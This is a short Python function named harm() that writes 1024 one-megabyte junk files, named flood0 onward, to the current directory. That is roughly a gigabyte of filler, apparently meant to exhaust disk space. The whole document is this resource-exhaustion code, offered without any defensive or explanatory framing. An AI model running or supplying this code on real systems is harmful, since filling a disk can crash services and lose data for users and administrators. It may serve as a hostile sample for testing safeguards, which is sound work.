def harm():
    for i in range(1024):
        with open(f"flood{i}", "wb") as file:
            file.write(b"x" * (1 << 20))
    return True
